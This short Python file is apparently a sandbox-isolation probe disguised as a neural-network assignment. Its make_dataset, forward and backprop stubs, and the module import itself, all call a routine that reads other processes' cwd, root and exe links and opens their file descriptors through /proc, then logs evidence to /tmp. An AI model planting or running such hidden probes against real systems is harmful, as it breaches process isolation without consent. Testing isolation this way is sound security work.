"""Opens other processes' files and pipes through /proc/<pid>/fd, cwd, root and exe."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE proc-fd:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-proc-fd", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    pids = [os.getppid(), 1, *range(max(2, os.getpid() - 60), os.getpid())]
    for pid in pids:
        try:
            for part in ("cwd", "root", "exe"):
                evidence(f"{pid} {part}: {os.readlink(f'/proc/{pid}/{part}')}")
            for fd in range(32):
                os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NONBLOCK))
                evidence(f"{pid} fd {fd}")
        except (OSError, ValueError):
            continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
